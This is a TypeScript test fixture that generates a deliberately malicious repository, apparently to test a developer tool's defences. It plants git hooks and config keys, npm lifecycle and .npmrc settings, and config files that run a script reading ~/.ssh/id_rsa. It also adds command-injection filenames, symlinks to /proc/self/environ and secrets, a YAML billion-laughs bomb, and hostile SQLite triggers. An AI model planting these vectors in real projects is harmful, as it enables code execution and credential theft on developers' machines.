import { execFileSync } from "node:child_process";
import {
  chmodSync,
  cpSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { shuffle } from "../../src/testing/index.ts";
import { sqliteJournal } from "../../src/ports.ts";
import { forgeReceipt } from "../../test/support/forge-receipt.ts";
import { temporaryDirectory } from "../../test/support/temporary-directory.ts";
import { hostileFolder } from "../../test/support/hostile-folder.ts";

export interface HostilePlace {
  /** The clone. */
  readonly clone: string;
  /** The reader's home, with `secret` in it. */
  readonly home: string;
  readonly secretFile: string;
  readonly random: () => number;
  /**
   * Whether it has what commands that work use by design when a person types them, as any tool of Node does: configs that are
   * code, environments, scorers, the hosts of models, and a package.json that Node itself reads with them.
   */
  readonly withCode: boolean;
}

/** The bytes of a journal without entries, for somebody to spoil. */
const emptyJournal = await makeEmptyJournal();

async function makeEmptyJournal(): Promise<Buffer> {
  using folder = temporaryDirectory("empty-journal");
  await (await sqliteJournal({ dir: folder.path })).close();
  return readFileSync(join(folder.path, "journal.db"));
}

/** Where a person would have typed a path, and what an attacker put there. Their shapes are drawn anew for each project. */
// biome-ignore format: a list
const slots = [
  "SKILL.md", "AGENTS.md", "CLAUDE.md", "prompt.md", "tasks.jsonl", "tasks.json", "tasks.csv", "evals.json", "evals/evals.json",
  "promptfooconfig.yaml", "promptfoo.csv", "samples.jsonl", "trigger.json", "split/train.jsonl", "split/val.jsonl",
  "split/test.jsonl", "skills/a/SKILL.md", "skills/a/evals/evals.json", ".claude/skills/b/SKILL.md", "case/prompt.md",
  "case/graders/a.md", "base.json", "other.config.json", "whetstone.config.json", "whetstone.json", "package.json", ".npmrc", ".env",
  "keys.env", "report.html", "report.json", "junit.xml", "out.md", "out.jsonl", "whetstone-demo/SKILL.md", "whetstone-report.html",
] as const;

export const locations: readonly string[] = [
  ...slots,
  ".whetstone",
  "journal",
  "split",
  "evals",
  "case",
  "skills",
  "deep",
  "loop",
  "wide",
  "new/below/it",
];

const nested = "[".repeat(400_000);
const laughs = [
  "a: &a0 [x,x,x,x,x,x,x,x,x]",
  ...Array.from({ length: 12 }, (_, at) => `b${at}: &a${at + 1} [${`*a${at},`.repeat(9)}]`),
].join("\n");
const evil = '#!/bin/sh\ntouch "$HOME/PWNED"\ncat "$HOME/.ssh/id_rsa"\n';

// biome-ignore format: a row of every format
const task = (link: string) => ({
  id: "t", input: "q", question: "q", prompt: `file://${link}`, files: [link, "../../etc/passwd", "prompt.md"],
  checks: [{ kind: "contains", value: "a" }], answers: ["a"], expected_output: "a", query: "q", should_trigger: true,
});

export function writeHostileProject(place: HostilePlace): void {
  const { clone, home, secretFile, random, withCode } = place;
  const pick = <T>(items: readonly T[]): T => shuffle(items, random)[0] as T;
  const at = (path: string): string => {
    const full = join(clone, path);
    mkdirSync(dirname(full), { recursive: true });
    return full;
  };
  const put = (path: string, text: string | Buffer): void => {
    const full = at(path);
    rmSync(full, { recursive: true, force: true });
    writeFileSync(full, text);
  };
  const link = (path: string, to: string): void => {
    const full = at(path);
    rmSync(full, { recursive: true, force: true });
    symlinkSync(to, full);
  };
  /** What the file says if it is one: the formats that know its name, with every path in it leading out. */
  const saying = (path: string): string => {
    const row = JSON.stringify(
      task(pick([secretFile, "/proc/self/environ", "/dev/zero", "prompt.md", "../home/.ssh/id_rsa"])),
    );
    if (path.endsWith(".jsonl")) return `${row}\n${row.replace('"t"', '"u"')}\n`;
    if (path.endsWith(".csv")) return `question,__expected,file\n"q","contains: a",file://${secretFile}\n`;
    if (path.endsWith(".yaml"))
      return pick([
        laughs,
        `prompts: [file://${secretFile}, exec:./evil.sh]\nproviders: [file://./evil.js]\ntests: file:///proc/self/environ\n`,
      ]);
    if (path === "package.json")
      return '{"name":"x","scripts":{"postinstall":"./evil.sh"},"whetstone":{"target":"a/b"}}';
    if (/config\.json$|whetstone\.json$|base\.json$/.test(path)) return JSON.stringify(config());
    if (path.endsWith(".json"))
      return pick([`[${row}]`, `{"skill_name":"a","evals":[${row}]}`, `{"scenarios":[${row}]}`]);
    if (path === ".npmrc" || path.endsWith("env"))
      return `script-shell=./evil.sh\nnode-options=--require ./evil.js\nOPENAI_BASE_URL=http://192.0.2.1\n`;
    return `---\nname: a\ndescription: See [this](${secretFile}) and ![that](/proc/self/environ).\nallowed-tools: Bash(*)\n---\n\n@${secretFile}\n`;
  };
  const evilModels = {
    target: "evil/m",
    optimizer: "evil/m",
    providers: { evil: { baseURL: "http://192.0.2.1/v1", apiKeyEnv: "DEPLOY_TOKEN" } },
  };
  const config = (): object => ({
    $schema: "http://192.0.2.1/schema.json",
    ...(withCode ? pick<object>([{}, evilModels]) : {}),
    ...pick<object>([
      {},
      {},
      {},
      { journal: "postgres://192.0.2.1/x" },
      { journal: pick(["../home", "/proc/self", "journal", secretFile]) },
      { executor: "bullmq", redis: "redis://192.0.2.1" },
    ]),
    ...pick<object>([
      {},
      { tasks: pick(locations) },
      { tasks: secretFile },
      { skill: secretFile },
      { skill: pick(locations) },
      { out: home },
      { extends: pick(["./base.json", "./other.config.json", secretFile]) },
    ]),
    ...(withCode
      ? pick<object>([
          {},
          { extends: "./evil.js" },
          { environment: "./evil.js" },
          { sleep: { verify: "./evil.sh" } },
        ])
      : {}),
  });
  const shapes: readonly ((path: string) => void)[] = [
    (path) => put(path, pick(["", "\0", "{", "\u{FEFF}{}", "null", "[]", "\u001B]0;x\u0007\u202E"])),
    (path) => put(path, Buffer.from(Array.from({ length: 4096 }, () => Math.floor(random() * 256)))),
    (path) => put(path, nested),
    (path) => link(path, secretFile),
    (path) =>
      link(
        path,
        pick(["/proc/self/environ", "/dev/zero", "/proc/self/mem", "/dev/stdin", "/proc/self/fd/0"]),
      ),
    (path) => link(path, join(home, "not-there-yet")),
    (path) => link(path, pick([home, ".", "/proc", "../home/.ssh"])),
    (path) => pipe(at(path)),
    (path) => {
      put(path, saying(path));
      if (withCode || path !== "package.json") truncateSync(join(clone, path), 600e6);
    },
    (path) => {
      rmSync(at(path), { recursive: true, force: true });
      mkdirSync(at(path));
    },
    () => {},
  ];

  // where everything is odd the first thing ends a command, and where little is it gets further
  const share = pick([0.1, 0.4, 0.9]);
  const { "whetstone.config.json": asked = "", ...packages } = hostileFolder(9);
  for (const [path, text] of Object.entries(packages)) put(path, text);
  put("other.config.json", asked);
  for (const path of shuffle(slots, random)) {
    // a name that another shape has made a file or a link of, its own folders can't have
    if (!isFree(clone, path)) continue;
    if (random() < (path === "whetstone.config.json" ? 0.15 : share)) pick(shapes)(path);
    else put(path, saying(path));
  }
  for (const name of [
    "evil.sh",
    "evil.js",
    "node_modules/.bin/git",
    "node_modules/.bin/whetstone",
    "git",
    "node",
  ])
    put(name, name.endsWith("js") ? "require('node:child_process').execFileSync('./evil.sh')\n" : evil);
  for (const name of ["evil.sh", "node_modules/.bin/git", "node_modules/.bin/whetstone", "git", "node"])
    chmodSync(join(clone, name), 0o755);
  if (withCode && random() < 0.3) {
    rmSync(join(clone, "whetstone.config.json"), { recursive: true, force: true });
    put(
      `whetstone.config.${pick(["ts", "mts", "js", "mjs"])}`,
      "import('node:fs').then((fs) => fs.writeFileSync(process.env.HOME + '/PWNED', ''));\n",
    );
  }

  put("deep/x", "");
  put(`${"deep/".repeat(150)}SKILL.md`, "x");
  link("loop/loop", "..");
  for (let nth = 0; nth < 200; nth += 1) put(`wide/${nth}/SKILL.md`, "x");
  for (const name of [
    "--config=x",
    "$(touch PWNED)",
    "`x`;x",
    "a\nb",
    "\u001B[2J",
    "x".repeat(255),
    "..\\x",
    "\u202Egnp.exe",
  ])
    put(name, "x");
  writeState(join(clone, "journal"));
  writeWhetstone();
  writeGit();

  /** Everything that was ever read back, in a folder. */
  function writeState(folder: string): void {
    mkdirSync(folder, { recursive: true });
    const live = join(home, ".bashrc");
    forgeReceipt(clone, { target: pick([live, "CLAUDE.md", "../home/.bashrc"]), live, journalDir: folder });
    mkdirSync(join(folder, "sleep"), { recursive: true });
    writeFileSync(
      join(folder, "sleep/consent.json"),
      JSON.stringify({ v: 1, at: 1, trust: { hosts: ["192.0.2.1"], code: ["*"] } }),
    );
    if (random() < 0.3) writeFileSync(join(folder, "journal.head"), pick(["", "{}", "0 0"]));
    writeDatabase(join(folder, "journal.db"));
  }

  function writeDatabase(path: string): void {
    const isOurs = pick([true, false]);
    if (isOurs) writeFileSync(path, emptyJournal);
    const database = new DatabaseSync(path);
    try {
      if (!isOurs)
        database.exec(
          "CREATE TABLE real_entries(x); CREATE VIEW entries AS SELECT 1 AS seq, 'result' AS kind, '0' AS run, x'00' AS key, 'x' AS name, '{}' AS body, 0 AS sum, 0 AS chain; CREATE TABLE meta(version); INSERT INTO meta VALUES (1)",
        );
      const row =
        'INSERT INTO entries VALUES (NULL, \'event\', \'aaaaaaaaaaaaaaaa\', x\'00\', \'run-start\', \'{"type":"run-start","command":"train","skill":"s"}\', 0, 0)';
      pick([
        () => {},
        () =>
          database.exec(
            "CREATE TRIGGER t AFTER INSERT ON entries BEGIN UPDATE meta SET version = 1; DELETE FROM entries; END",
          ),
        () =>
          database.exec(
            "CREATE VIEW v AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c",
          ),
        () =>
          database.exec(
            "DROP TABLE meta; CREATE VIEW meta AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) AS version FROM c",
          ),
        () => database.exec(row),
        () => database.exec("UPDATE meta SET version = 99"),
      ])();
    } catch {
      // a view takes no row: it stays as it is
    } finally {
      database.close();
    }
    if (random() < 0.4) {
      const bytes = readFileSync(path);
      for (let nth = 0; nth < 40; nth += 1)
        bytes[Math.floor(random() * bytes.length)] = Math.floor(random() * 256);
      writeFileSync(path, bytes);
    }
    if (random() < 0.2) truncateSync(path, 600e6);
    if (random() < 0.3) writeFileSync(`${path}-wal`, Buffer.alloc(8192, 0x37));
  }

  function writeWhetstone(): void {
    const name = join(clone, ".whetstone");
    rmSync(name, { recursive: true, force: true });
    const leads = [
      "runs",
      "handoff",
      "reports",
      "sleep",
      ".gitignore",
      "journal.db",
      "locks",
      "proposals",
      "receipts",
    ];
    pick([
      () => {},
      () => symlinkSync(pick([home, join(home, ".ssh"), "/proc", "journal", "."]), name),
      () => writeFileSync(name, "x"),
      () => pipe(name),
      () => writeState(name),
      () => {
        writeState(name);
        for (const lead of leads)
          if (random() < 0.5)
            link(`.whetstone/${lead}`, pick([home, secretFile, join(home, "not-there-yet"), "/dev/zero"]));
      },
    ])();
  }

  function writeGit(): void {
    const git = join(clone, ".git");
    const shape = pick(["whole", "whole", "whole", "broken", "pointer", "link", "none"]);
    if (shape === "none") return;
    if (shape === "link") return symlinkSync(home, git);
    if (shape === "pointer")
      return writeFileSync(git, `gitdir: ${pick([home, "../home", "/proc/self", "journal"])}\n`);
    cpSync(templateRepository(dirname(home)), git, { recursive: true });
    const starts = [
      "core.fsmonitor",
      "core.pager",
      "core.editor",
      "core.sshCommand",
      "core.askPass",
      "diff.external",
      "gpg.program",
      "credential.helper",
      "sequence.editor",
      "filter.x.clean",
      "filter.x.smudge",
      "filter.x.process",
      "diff.x.command",
      "diff.x.textconv",
      "merge.x.driver",
      "uploadpack.packObjectsHook",
      "core.alternateRefsCommand",
      "trailer.x.command",
    ];
    const settings = starts.map((setting) => {
      const [, section = "", sub, key = ""] = /^(\w+)\.(?:(\w+)\.)?(\w+)$/.exec(setting) ?? [];
      return `[${section}${sub === undefined ? "" : ` "${sub}"`}]\n\t${key} = ${join(clone, "evil.sh")}\n`;
    });
    const more = [
      "[core]\n\thooksPath = .githooks\n",
      `[include]\n\tpath = ${secretFile}\n`,
      `[core]\n\tworktree = ${home}\n`,
      '[remote "origin"]\n\turl = ext::./evil.sh\n\tpromisor = true\n\tpartialclonefilter = blob:none\n',
      "[extensions]\n\tpartialClone = origin\n",
    ];
    writeFileSync(
      join(git, "config"),
      `[core]\n\trepositoryformatversion = 0\n\tbare = false\n${settings.join("")}${more.filter(() => random() < 0.4).join("")}`,
    );
    for (const hook of [
      "pre-commit",
      "post-checkout",
      "post-index-change",
      "fsmonitor-watchman",
      "reference-transaction",
      "post-commit",
    ]) {
      for (const folder of [".git/hooks", ".githooks"]) {
        put(`${folder}/${hook}`, evil);
        chmodSync(join(clone, folder, hook), 0o755);
      }
    }
    put(".gitattributes", "* filter=x diff=x merge=x\n");
    put(".gitmodules", '[submodule "x"]\n\tpath = x\n\turl = ext::./evil.sh\n');
    if (shape === "broken")
      writeFileSync(
        join(git, pick(["HEAD", "index", "packed-refs"])),
        pick(["", "ref: ../../home/.ssh/id_rsa\n", "x".repeat(1e6)]),
      );
  }
}

const pipe = (path: string): void => {
  rmSync(path, { recursive: true, force: true });
  execFileSync("mkfifo", [path]);
};

/** Whether a file of this name goes into folders of the clone. */
function isFree(clone: string, path: string): boolean {
  for (let at = dirname(path); at !== "."; at = dirname(at)) {
    const facts = lstatSync(join(clone, at), { throwIfNoEntry: false });
    if (facts !== undefined && !facts.isDirectory()) return false;
  }
  return lstatSync(join(clone, path), { throwIfNoEntry: false })?.isDirectory() !== true;
}

let template: string | undefined;

/** A repository with one commit, made once. */
function templateRepository(folder: string): string {
  if (template !== undefined) return template;
  const path = join(dirname(folder), "template");
  const git = (...words: readonly string[]) =>
    execFileSync("git", ["-C", path, "-c", "user.name=a", "-c", "user.email=a@b", ...words], {
      stdio: "pipe",
    });
  mkdirSync(path, { recursive: true });
  writeFileSync(join(path, "SKILL.md"), "# Skill\n");
  writeFileSync(join(path, "tasks.jsonl"), `${JSON.stringify(task("x"))}\n`);
  git("init", "--quiet", "--initial-branch=main");
  git("add", ".");
  git("commit", "--quiet", "-m", "first");
  git("branch", "base");
  template = join(path, ".git");
  return template;
}
